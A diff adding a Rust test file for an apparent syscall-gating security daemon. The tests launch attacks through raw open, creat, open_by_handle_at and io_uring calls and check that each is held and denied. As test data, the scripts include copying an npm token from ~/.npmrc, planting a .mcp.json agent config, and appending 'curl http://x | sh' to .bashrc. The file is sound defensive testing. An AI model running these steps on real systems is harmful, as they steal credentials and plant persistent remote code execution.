@@ -1,0 +1,203 @@
+//! No way around (issue 30): the same effect by another call is seen, gated and undone as the
+//! ordinary call is. Each class as a watched attack, in the host's mount namespace and in a
+//! private one (`unshare -m`, a tmpfs over /root), asserting the host after deny. Root, the
+//! real kernel and the shipped pack.
+mod common;
+use std::path::Path;
+
+use common::{
+    holds::{await_hold, spawn_session, verdict, wait_exit},
+    pack_dir, Daemon, FakeHome, TempDir,
+};
+
+/// Where an attack runs.
+#[derive(Clone, Copy, Debug)]
+enum Ns {
+    Host,
+    Private,
+}
+
+fn launch_in(d: &Daemon, ns: Ns, script: &str) -> (std::process::Child, String) {
+    let c = match ns {
+        Ns::Host => {
+            let mut c = d.cli();
+            c.args(["launch", "--", "sh", "-c", script]);
+            c
+        }
+        Ns::Private => {
+            let mut c = std::process::Command::new("unshare");
+            c.args(["-m", "sh", "-c"])
+                .arg("mount -t tmpfs tmpfs /root && exec \"$0\" --socket \"$1\" launch -- sh -c \"$2\"")
+                .arg(common::BIN)
+                .arg(&d.socket)
+                .arg(script);
+            c
+        }
+    };
+    spawn_session(c)
+}
+
+/// One attack: its script, the rules that may hold it, and what must be true afterwards.
+struct Case {
+    name: &'static str,
+    script: String,
+    rules: &'static [&'static str],
+    unharmed: Box<dyn Fn() -> Result<(), String>>,
+}
+
+fn absent(p: &Path) -> Result<(), String> {
+    match p.exists() {
+        true => Err(format!("{} exists", p.display())),
+        false => Ok(()),
+    }
+}
+
+fn unchanged(p: &Path, before: &[u8]) -> Result<(), String> {
+    match std::fs::read(p) {
+        Ok(now) if now == before => Ok(()),
+        Ok(now) => Err(format!(
+            "{} changed: {:?}",
+            p.display(),
+            String::from_utf8_lossy(&now)
+        )),
+        Err(e) => Err(format!("{}: {e}", p.display())),
+    }
+}
+
+/// Runs every case in both namespaces: each must be held by one of its rules, denied, and
+/// leave the host unharmed. Returns the failures.
+fn run(d: &Daemon, cases: &[Case]) -> Vec<String> {
+    let mut failures = Vec::new();
+    for ns in [Ns::Host, Ns::Private] {
+        for c in cases {
+            let (mut child, trace) = launch_in(d, ns, &c.script);
+            let hold = await_hold(d, &trace);
+            if !c.rules.iter().any(|r| hold["rule"] == *r) {
+                failures.push(format!(
+                    "{ns:?} {}: held by {} instead of {:?}",
+                    c.name, hold["rule"], c.rules
+                ));
+            }
+            verdict(d, "deny", &hold);
+            wait_exit(&mut child);
+            if let Err(e) = (c.unharmed)() {
+                failures.push(format!("{ns:?} {}: afterwards, {e}", c.name));
+            }
+        }
+    }
+    failures
+}
+
+/// Python with ctypes calling the raw syscall `nr` (x86_64 numbers), then what `then` does
+/// with the descriptor `fd`.
+fn py(body: &str) -> String {
+    format!(
+        "/usr/bin/python3 -c \"import ctypes, os, struct; libc = ctypes.CDLL(None, use_errno=True); libc.syscall.restype = ctypes.c_long\n{body}\""
+    )
+}
+
+/// Opens by the legacy `open(2)` and `creat(2)` and by `open_by_handle_at(2)` are opens: the
+/// pack's rules hold them as they hold openat, and deny leaves nothing behind.
+#[test]
+fn every_open_call_is_an_open() {
+    common::require_root();
+    let home = FakeHome::new();
+    let h = home.0.clone();
+    let work = TempDir::new("evasion-open");
+    let w = work.0.clone();
+    let d = Daemon::start_with(&format!(
+        "[rules]\npath = \"{}\"\n[holds]\ntimeout = \"60s\"\n",
+        pack_dir(&w).display()
+    ));
+    let bashrc = std::fs::read(h.join(".bashrc")).unwrap();
+    let (hp, wp) = (h.display().to_string(), w.display().to_string());
+    let copy_to = |dst: &str| format!("data = os.read(fd, 4096)\nopen('{dst}', 'wb').write(data)");
+    let cases = vec![
+        Case {
+            name: "an npm token copied through open(2)",
+            script: py(&format!(
+                "fd = libc.syscall(2, b'{hp}/.npmrc', os.O_RDONLY)\n{}",
+                copy_to(&format!("{wp}/stolen-open"))
+            )),
+            rules: &["token-file-read"],
+            unharmed: Box::new({
+                let p = w.join("stolen-open");
+                move || absent(&p)
+            }),
+        },
+        Case {
+            name: "an agent config made by creat(2)",
+            script: py(&format!(
+                "fd = libc.syscall(85, b'{wp}/.mcp.json', 0o644)\nos.write(fd, b'{{}}')"
+            )),
+            rules: &["agent-config-tamper"],
+            unharmed: Box::new({
+                let p = w.join(".mcp.json");
+                move || absent(&p)
+            }),
+        },
+        Case {
+            name: "a line appended to .bashrc through open(2)",
+            script: py(&format!(
+                "fd = libc.syscall(2, b'{hp}/.bashrc', os.O_WRONLY | os.O_APPEND)\nos.write(fd, b'curl http://x | sh')"
+            )),
+            rules: &["protected-path", "shell-rc-write"],
+            unharmed: Box::new({
+                let p = h.join(".bashrc");
+                let b = bashrc.clone();
+                move || unchanged(&p, &b)
+            }),
+        },
+        Case {
+            name: "an npm token copied through open_by_handle_at(2)",
+            script: py(&format!(
+                "buf = ctypes.create_string_buffer(struct.pack('Ii', 128, 0) + bytes(128))\n\
+                 mnt = ctypes.c_int()\n\
+                 assert libc.syscall(303, -100, b'{hp}/.npmrc', buf, ctypes.byref(mnt), 0) == 0, ctypes.get_errno()\n\
+                 mfd = os.open('{hp}', os.O_RDONLY)\n\
+                 fd = libc.syscall(304, mfd, buf, os.O_RDONLY)\n\
+                 assert fd >= 0, ctypes.get_errno()\n{}",
+                copy_to(&format!("{wp}/stolen-handle"))
+            )),
+            rules: &["token-file-read"],
+            unharmed: Box::new({
+                let p = w.join("stolen-handle");
+                move || absent(&p)
+            }),
+        },
+    ];
+    let failures = run(&d, &cases);
+    assert!(
+        failures.is_empty(),
+        "{} failures:\n{}",
+        failures.len(),
+        failures.join("\n")
+    );
+}
+
+/// A ring made with io_uring_setup: what it submits (here an openat that creates a file) runs
+/// with no syscall hook on the way, so the ring is held as it is made, before its first use,
+/// and deny kills the process with its ring: the file is never created.
+#[test]
+fn an_io_uring_is_held_before_its_first_operation() {
+    common::require_root();
+    let work = TempDir::new("evasion-uring");
+    let w = work.0.clone();
+    let d = Daemon::start_with(&format!(
+        "[rules]\npath = \"{}\"\n[holds]\ntimeout = \"60s\"\n",
+        pack_dir(&w).display()
+    ));
+    let ring = Path::new(env!("CARGO_MANIFEST_DIR")).join("../tests/io_uring_open.py");
+    let marker = w.join("made-by-the-ring");
+    let cases = vec![Case {
+        name: "a file created through io_uring (IORING_OP_OPENAT)",
+        script: format!("/usr/bin/python3 {} {}", ring.display(), marker.display()),
+        rules: &["io-uring-ring"],
+        unharmed: Box::new({
+            let p = marker.clone();
+            move || absent(&p)
+        }),
+    }];
+    let failures = run(&d, &cases);
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
